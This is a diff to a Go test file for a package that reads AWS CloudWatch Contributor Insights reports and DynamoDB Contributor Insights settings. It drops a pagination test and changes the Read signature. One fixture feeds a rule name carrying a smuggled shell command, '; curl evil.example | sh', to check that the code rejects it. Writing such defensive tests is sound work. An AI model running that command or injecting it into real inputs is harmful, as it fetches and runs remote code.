@@ -73,22 +73,22 @@ func TestAttacksByReports(t *testing.T) {
 			s := cloudwatchtest.New(t)
 			s.Raw("GetInsightRuleReport", cloudwatchtest.Reply(c.answer))
 			r := contributorinsights.Reader{API: s.Client()}
-			got, err := r.Read(t.Context(), accessed, noon, noon.Add(time.Hour), 1)
+			got, err := r.Read(t.Context(), accessed, noon, noon.Add(time.Hour))
 			if (err == nil) != (c.want == "") || err != nil && !strings.Contains(err.Error(), c.want) {
 				t.Fatalf("%v, want %q", err, c.want)
 			}
 			points := 0
 			for _, series := range got.Series {
-				points += len(series.Points)
+				points += len(series.Values)
 			}
-			if points != c.points || r.Calls > 119 {
+			if points != c.points || r.Calls != 1 {
 				t.Errorf("%d loads after %d calls, want %d: %+v", points, r.Calls, c.points, got)
 			}
 		})
 	}
 }
 
-// TestAttacksByRules gives each answer to DescribeInsightRules and DescribeContributorInsights.
+// TestAttacksByRules gives each answer to DescribeContributorInsights.
 func TestAttacksByRules(t *testing.T) {
 	t.Parallel()
 	orders := sample.Target{Table: "orders"}
@@ -97,14 +97,6 @@ func TestAttacksByRules(t *testing.T) {
 		s.Raw("DescribeContributorInsights", answer)
 		return contributorinsights.Describe(t.Context(), tables(s), orders)
 	}
-	t.Run("pages in a circle", func(t *testing.T) {
-		s := cloudwatchtest.New(t)
-		s.Raw("DescribeInsightRules", cloudwatchtest.Reply(cbor.Map{"InsightRules": cbor.List{}, "NextToken": cbor.String("a")}))
-		r := contributorinsights.Reader{API: s.Client()}
-		if got, err := r.States(t.Context()); err == nil || !strings.Contains(err.Error(), "more than 20 pages") {
-			t.Errorf("%v, %v", got, err)
-		}
-	})
 	t.Run("names that are commands", func(t *testing.T) {
 		got, err := setup(t, cloudwatchtest.Reply(`{"ContributorInsightsStatus":"ENABLED","ContributorInsightsRuleList":["DynamoDBContributorInsights-PKC-orders-1; curl evil.example | sh","`+accessed+`\u001b[2J","\u0000",""]}`))
 		if err != nil || len(got.Rules) > 0 || hostile.Fault(got.Says()) != "" {
@@ -134,11 +126,7 @@ func TestAttacksBySize(t *testing.T) {
 	t.Parallel()
 	for operation, ask := range map[string]func(context.Context, *cloudwatchtest.Server) error{
 		"GetInsightRuleReport": func(ctx context.Context, s *cloudwatchtest.Server) error {
-			_, err := (&contributorinsights.Reader{API: s.Client()}).Read(ctx, accessed, noon, noon.Add(time.Hour), 1)
-			return err
-		},
-		"DescribeInsightRules": func(ctx context.Context, s *cloudwatchtest.Server) error {
-			_, err := (&contributorinsights.Reader{API: s.Client()}).States(ctx)
+			_, err := (&contributorinsights.Reader{API: s.Client()}).Read(ctx, accessed, noon, noon.Add(time.Hour))
 			return err
 		},
 		"DescribeContributorInsights": func(ctx context.Context, s *cloudwatchtest.Server) error {
@@ -185,7 +173,6 @@ func TestNoSetupShowsATextRaw(t *testing.T) {
 			}
 			check(got.Says())
 			check(got.EnableAll())
-			check(got.EnableThrottled())
 		}
 		api := dynamodb.New(dynamodb.Options{Region: m.Text(), Credentials: credentials.NewStaticCredentialsProvider("a", "b", ""), RetryMaxAttempts: 1})
 		if _, err := contributorinsights.Describe(t.Context(), api, of); err == nil {
@@ -194,7 +181,7 @@ func TestNoSetupShowsATextRaw(t *testing.T) {
 			check(err.Error())
 		}
 		reports := contributorinsights.Reader{API: cloudwatch.New(cloudwatch.Options{Region: m.Text(), Credentials: credentials.NewStaticCredentialsProvider("a", "b", ""), RetryMaxAttempts: 1})}
-		if _, err := reports.Read(t.Context(), accessed, noon, noon.Add(time.Minute), 1); err == nil {
+		if _, err := reports.Read(t.Context(), accessed, noon, noon.Add(time.Minute)); err == nil {
 			t.Error("a report of a Region that cannot be was read")
 		} else {
 			check(err.Error())
